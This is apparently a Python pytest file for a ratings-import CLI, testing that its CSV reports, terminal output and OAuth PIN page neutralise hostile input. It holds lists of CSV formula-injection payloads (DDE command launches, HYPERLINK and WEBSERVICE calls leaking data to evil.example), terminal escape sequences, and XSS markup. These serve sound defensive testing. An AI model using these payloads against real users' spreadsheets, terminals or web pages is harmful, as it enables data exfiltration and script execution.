"""Hostile output: what exports hold does no harm in a spreadsheet, on a terminal or in a browser, by real ones."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import NamedTuple

import click
import ironcalc
import pyte
import pytest

from importer.cli import cli
from importer.sandbox.app import Fault, SandboxSettings, backstage_of, create_app
from importer.sandbox.backstage import Backstage
from importer.sandbox.faults import FaultKind
from importer.sandbox.serving import serve
from importer.vocabulary.sends import Section
from tests.browsing import Watched, browser, watched
from tests.clock import FakeClock
from tests.commanding import run
from tests.sandbox.calling import NOW
from tests.terminals import Screen, Terminals, terminals

__all__ = ["browser", "watched"]

HEADER = ("title", "year", "type", "rating", "rated_at", "imdb")

# --- spreadsheets -----------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    "Alien;=1+1",
    "Alien;+1+1;x",
    "Alien;@SUM(1)",
    "Alien;'=1+1",
    '";=1+1',
    '"=1+1',
    "Alien,=1+1",
    'Alien;"=1+1&";x',
    "Alien\n=1+1;x",
    "Alien\r=1+1;x",
    'Alien,"\r\n=1+1;x',
    "Alien\t=1+1",
    "Alien\t=1+1;x",
    "Alien;-1+1",
    "\u00a0=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "=\u202e1+1",
    "=" + "1+" * 200 + "1",
]


def hostile_table(path: Path, titles: Sequence[str]) -> Path:
    """Every title twice: once as a rating, once in a row that is rejected and names it in all it holds."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(HEADER)
        for number, title in enumerate(titles, start=1):
            writer.writerow((title, "1999", "movie", "8", "2020-01-02", f"tt{number:07}"))
            writer.writerow((title, title, title, title, title, title))
    return path


def formulas_in(text: str, delimiter: str) -> list[str]:
    """The cells that a spreadsheet runs when it opens `text` as a table with this delimiter."""
    book = ironcalc.create("report")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    for row, cells in enumerate(rows, start=1):
        for column, cell in enumerate(cells, start=1):
            book.set_user_input(0, row, column, cell)
    return [
        cells[column - 1]
        for row, cells in enumerate(rows, start=1)
        for column in range(1, len(cells) + 1)
        if book.get_cell_formula(0, row, column) is not None
    ]


def test_the_spreadsheet_would_run_what_is_not_defused() -> None:
    """The proof can fail: written as they are, formulas run, behind a semicolon too."""
    assert formulas_in("=1+1,+1+1,-1+1,Alien", ",") == ["=1+1", "+1+1", "-1+1"]
    assert formulas_in('"Alien;=1+1"\n', ",") == []
    assert formulas_in('1,"Alien;=1+1;"\n', ";") == ["=1+1"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("name", ["outcomes.csv", "leftovers.csv"])
def test_no_report_holds_a_formula(tmp_path: Path, name: str, delimiter: str) -> None:
    """Whichever character the person's spreadsheet takes for the delimiter."""
    hostile_table(tmp_path / "=1+1;=2+2.csv", FORMULAS)
    done = run(["preview", "=1+1;=2+2.csv", "-o", "report"], tmp_path)
    assert done.returncode == 1, done.stderr
    text = (tmp_path / "report" / name).read_bytes().decode()
    assert text.count("\r\n") > len(FORMULAS)
    assert "HYPERLINK" in text
    assert formulas_in(text, delimiter) == []


# --- terminals --------------------------------------------------------------------------------------------

ESCAPES = [
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b[10;10Hjump",
    "\x1b[5A up",
    "\x1bc reset",
    "\x1b[?25l hidden",
    "\x1b[6n report",
    "\x1bP+q544e\x1b\\",
    "\x1b_command\x1b\\",
    "\x1b(0 lines",
    "\x9b31m c1",
    "\x9d0;owned\x9c",
    "\x08\x08\x08 back",
    "\x0e shift",
    "\x07 bell",
    "\x7f delete",
    "\x85next line",
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u061cmark",
    "\u200emark",
    "\u200fmark",
    "\u2028line",
    "\u2029paragraph",
    "a\rb",
    "[red]markup[/red]",
    "[/x]",
    "[link=https://evil.example]x[/link]",
]
TITLES = [f"Marked {' '.join(ESCAPES[place::6])}" for place in range(6)]
"""Between them all escapes, few enough titles to be named wherever some are."""
ACCOUNT = "Marked \nForged " + " ".join(ESCAPES)
NAME = "Marked \x1b]0;owned\x07\u202e\u2029[red]\x85\x7f\udcff\x1b[31m\nForged"
STEERING = re.compile(
    "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)
OUR_COLOURS = re.compile(r"\x1b\[(?:0|1|2|36|1;36)?m")
_TEXT_ONLY = {"draw", "linefeed", "carriage_return", "tab"}
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="terminals differ")


def events(written: bytes) -> Iterator[tuple[str, str]]:
    """What a terminal does with these bytes, step by step."""
    told = io.StringIO()
    pyte.ByteStream(pyte.DebugScreen(to=told)).feed(written)
    for line in told.getvalue().splitlines():
        name, arguments, _ = json.loads(line)
        yield name, json.dumps(arguments)


def looked_at(screen: Screen) -> str:
    """The text that a terminal shows of a command, which may steer it by no more than the colours of ours."""
    steps = [(name, json.loads(arguments)) for name, arguments in events(screen.written)]
    assert {name for name, _ in steps} <= {*_TEXT_ONLY, "select_graphic_rendition"}, screen.written
    assert not STEERING.search(OUR_COLOURS.sub("", screen.written.decode())), screen.written
    shown = "".join(arguments[0] if name == "draw" else "\n" * (name == "linefeed") for name, arguments in steps)
    assert "\nForged" not in shown, shown  # the break in a name begins no line
    assert "Traceback" not in shown, shown
    return shown


def test_the_terminal_would_do_what_is_not_defused() -> None:
    """The proof can fail: as they are, most of these do something, and the others are seen."""
    acting = [text for text in ESCAPES if {name for name, _ in events(text.encode())} - _TEXT_ONLY]
    assert len(acting) >= 15
    for text in [*ESCAPES, "x\nForged"]:
        if "[/" not in text and "\r" not in text:
            with pytest.raises(AssertionError):
                looked_at(Screen(0, text.encode()))


def hostile_exports(folder: Path) -> None:
    """Files whose names and titles are hostile: a table whose rows disagree and of which some are left over, a
    title with half a character, a text that cannot be read, and an archive of all that."""
    hostile_table(folder / f"{NAME}.csv", TITLES)
    with (folder / f"{NAME}.csv").open("a", encoding="utf-8", newline="") as stream:
        for number, title in enumerate(TITLES, start=1):
            csv.writer(stream).writerow((title, "1999", "movie", "3", "2019-01-02", f"tt{number:07}"))
            csv.writer(stream).writerow((title, "2001", "movie", "4", "2019-01-02", f"tt1{number:06}"))
    broken = [
        {"title": "Marked \ud83d\x1b[31m\nForged", "year": 2001, "rating": 7, "type": "movie", "imdb": "tt0000300"}
    ]
    (folder / f"{NAME}.json").write_text(json.dumps(broken), encoding="ascii")
    (folder / f"{NAME}.xml").write_bytes(b"\x81\x81" + TITLES[0].encode("cp1252", "replace"))
    with zipfile.ZipFile(folder / f"{NAME}.zip", "w") as archive:
        for suffix in ("csv", "json", "xml"):
            archive.writestr(
                f"{NAME.replace(chr(0xDCFF), '')}.{suffix}", (folder / f"{NAME}.{suffix}").read_bytes()
            )


def hostile_account(stage: Backstage) -> None:
    """The same titles, rated otherwise, or planned, which rating them ends."""
    for number, title in enumerate(TITLES, start=1):
        item = {"ids": {"imdb": f"tt{number:07}"}, "title": title, "year": 1999}
        if number % 2:
            stage.put(Section.MOVIES, {**item, "rating": 2, "rated_at": "2015-01-02T12:00:00Z"})
        else:
            stage.put(Section.MOVIES, item, status="plantowatch")


def refused(stage: Backstage) -> None:
    """The next POST of ratings is turned down, with a hostile word for it."""
    stage.faults.add(Fault(kind=FaultKind.STATUS, status=403, error=TITLES[0]))


def rated_by_another(stage: Backstage) -> None:
    """Somebody changes a rating at Simkl."""
    stage.put(Section.MOVIES, {"ids": {"imdb": "tt0000001"}, "rating": 1})


class Step(NamedTuple):
    """A command in which X stands for the hostile name, what its screen shows, its exit code, what is typed, and
    what befalls the service before it."""

    line: str
    shows: str = "Marked"
    code: int = 0
    typed: str = ""
    before: Callable[[Backstage], None] = lambda stage: None

    @property
    def words(self) -> list[str]:
        """The words of the command line."""
        return [word.replace("X", NAME) for word in self.line.split()]


JOURNEY = [
    Step("login", "Signed in as Marked"),
    Step("whoami"),
    Step("identify X.csv X.json X.xml X.zip", "neither UTF-8 nor", 3),
    Step("preview X.csv X.json X.zip", "Passed over", 1),
    Step("preview X.csv X.json -o X", "Rows disagree", 1),
    Step("preview X.csv --json -o X", '"pending"', 1),
    Step("preview X.csv --account", "becomes 8", 1),
    Step("preview X.csv --account --json", '"pending"', 1),
    Step("import X.csv X.json -o X", "[y/N]", 75, "n\n"),
    Step("import X.csv X.json -o X", "403", 5, "y\n", before=refused),
    Step("resume -o X", "13 confirmed", 1, "y\n"),
    Step("import X.csv -o X2 --yes --json", '"unchanged"', 1),
    Step("runs", "13 confirmed"),
    Step("runs --json"),
    Step("show 1", "Moved to another list"),
    Step("show 1 --json"),
    Step("verify 1", "sent was 8", 1, before=rated_by_another),
    Step("verify 1 --json", code=1),
    Step("ratings"),
    Step("ratings --json"),
    Step("backup -o X-backup.json"),
    Step("backup -o X-backup.json", "is there already", 2),
    Step("backup -o X-backup2.json --json"),
    Step("lookup imdb:tt0000001 imdb:tt9999990", code=1),
    Step("lookup imdb:tt0000001 --json"),
    Step("undo 1 --dry-run", "changed since", 1),
    Step("undo 1 --dry-run --json", code=1),
    Step("undo 1", "[y/N]", 75, "n\n"),
    Step("undo 1", "Undone", 1, "y\n"),
    Step("import X.json -o X3 --yes --json", "403", 5, before=refused),
    Step("resume -o X3 --yes --json", '"confirmed": 1'),
    Step("remove X.json -o X4", "[y/N]", 75, "n\n"),
    Step("remove X.json -o X4", "Ratings to remove", typed="y\n"),
    Step("remove X.csv --yes --json -o X5", '"unchanged"', 1),
    Step("undo 1 --yes --json", code=1),
    Step("sources imdb", "IMDb"),
    Step("sources X", "There is no source", 2),
    Step("demo -o X.csv", "is a file", 2),
    Step("sandbox --port X", "is not a valid integer", 2),
    Step("logout", "Signed out"),
]


@pytest.fixture(scope="module")
def opened() -> Iterator[Terminals]:
    """Terminals for all tests here."""
    with terminals() as opened:
        yield opened


@posix_only
@pytest.mark.timeout(240)
def test_no_command_lets_data_steer_the_terminal(opened: Terminals, tmp_path: Path) -> None:
    """Every command there is shows hostile titles and names as text, and can be answered where it asks."""
    hostile_exports(tmp_path)
    app = create_app(
        SandboxSettings(
            user_name=ACCOUNT,
            account_type=TITLES[0],
            auto_approve=True,
            poll_interval_s=1,
            plan_to_watch_becomes_completed=True,
        )
    )
    hostile_account(backstage_of(app))
    with serve(app) as server:
        variables = {"RATEPORT_API_URL": server.url, "RATEPORT_CLIENT_ID": "an-app"}
        for step in JOURNEY:
            step.before(backstage_of(app))
            screen = opened.run(tmp_path, *step.words, typed=step.typed, variables=variables)
            shown = looked_at(screen)
            assert screen.exit_code == step.code, f"{step.line}: {shown}"
            assert step.shows in shown, f"{step.line}: {shown}"
    assert {step.words[0] for step in JOURNEY} == set(cli.commands)


NEEDED = {"files": f"{NAME}.csv", "ids": "imdb:tt0000001", "run": "1"}


def misused() -> Iterator[list[str]]:
    """Command lines with the hostile name in every place: for each argument of each command, for every option that
    takes a word, as an option and as a command."""
    options: dict[tuple[str, str | None], list[str]] = {}
    for name, command in cli.commands.items():
        arguments = [param for param in command.params if isinstance(param, click.Argument)]
        needed = [NEEDED[param.name or ""] for param in arguments if param.required]
        start = [name, "--sandbox"] if any(param.name == "in_sandbox" for param in command.params) else [name]
        yield [*start, NAME]
        yield [*start, *needed, NAME]
        yield [*start, f"--{NAME}"]
        for param in command.params:
            if isinstance(param, click.Option) and not param.is_flag:
                options.setdefault((param.opts[0], param.name), [*start, *needed, param.opts[0], NAME])
    yield from options.values()
    yield [NAME]


@posix_only
@pytest.mark.timeout(120)
def test_no_command_line_steers_the_terminal(opened: Terminals, tmp_path: Path) -> None:
    """Nothing that is named wrongly is repeated as it is: files, sources, words, folders and whatever else."""
    hostile_exports(tmp_path)
    for words in misused():
        assert "Marked" in looked_at(opened.run(tmp_path, *words)), words


@posix_only
@pytest.mark.parametrize(
    ("setting", "command"),
    [("HOME", "runs"), ("HOME", "sandbox"), ("API_URL", "runs"), ("CLIENT_ID", "runs"), ("ACCESS_TOKEN", "runs")],
)
def test_no_variable_steers_the_terminal(opened: Terminals, tmp_path: Path, setting: str, command: str) -> None:
    """Nor is anything of the environment, among it a home that is a file."""
    hostile_exports(tmp_path)
    variables = {"RATEPORT_CLIENT_ID": "an-app", "RATEPORT_ACCESS_TOKEN": "token"}
    screen = opened.run(tmp_path, command, variables={**variables, f"RATEPORT_{setting}": f"{NAME}.csv"})
    assert screen.exit_code == 2
    assert looked_at(screen).startswith("rateport: ")


@posix_only
@pytest.mark.parametrize(
    "line",
    [
        '"X" = 1',
        'prefer = "X"',
        'on_conflict = "X"',
        '[scales."X"]\n"1" = 1',
        '[scales.stars-5]\n"X" = 1',
        '[table.columns]\n"X" = "x"',
        '[table.columns]\nrating = "X"',
    ],
)
def test_no_setting_steers_the_terminal(opened: Terminals, tmp_path: Path, line: str) -> None:
    """Nor is anything of the config."""
    hostile_exports(tmp_path)
    (tmp_path / "table.csv").write_text("x,y\n1,2\n", encoding="utf-8")
    (tmp_path / "home").mkdir()
    written = line.replace("X", json.dumps(NAME.replace("\udcff", ""))[1:-1])
    (tmp_path / "home" / "config.toml").write_text(written, encoding="utf-8")
    assert "Marked" in looked_at(opened.run(tmp_path, "preview", f"{NAME}.csv"))


# --- browsers ---------------------------------------------------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</b><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x",
    "<img src=https://evil.example/x.png>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "{{ 7 * 7 }}{% for x in () %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e\x00",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.promise("P16")
@pytest.mark.timeout(240)
def test_the_page_that_asks_shows_every_name_as_it_is(watched: Watched) -> None:
    """No dialog opens, nothing is fetched from elsewhere, and the name of the app is text."""
    app = create_app(SandboxSettings(enforce_limits=False), clock=FakeClock(NOW))
    with serve(app) as running:
        for name in MARKUP:
            asked = app.test_client().post(
                "/oauth2/device",
                query_string={"client_id": name, "app-name": "tests", "app-version": "1"},
                data={"client_id": name, "scope": "media:read media:write"},
                headers={"User-Agent": "tests/1"},
            )
            assert asked.status_code == 200, asked.text
            watched.page.goto(f"{running.url}/pin?user_code={asked.get_json()['user_code']}")
            assert watched.page.locator("b").first.inner_text() == name.replace("\x00", "")
            watched.page.goto(f"{running.url}/pin")
            watched.page.locator("input[name=user_code]").evaluate("(box, text) => { box.value = text }", name)
            watched.page.get_by_role("button", name="Approve").click()
            assert watched.page.locator("script, img, svg, iframe, style, link, base").count() == 0
            assert watched.page.url == f"{running.url}/pin"
        assert watched.dialogs == []
        assert {url.split("/pin")[0] for url in watched.requests} <= {running.url, f"{running.url}/favicon.ico"}
    assert len(MARKUP) >= 30


def test_the_browser_would_show_a_dialog(watched: Watched) -> None:
    """The proof can fail: on a page without the policy, the same markup acts."""
    watched.page.set_content("<img src=x onerror=alert(1)>")
    watched.page.wait_for_function("true")
    assert watched.dialogs == ["1"]
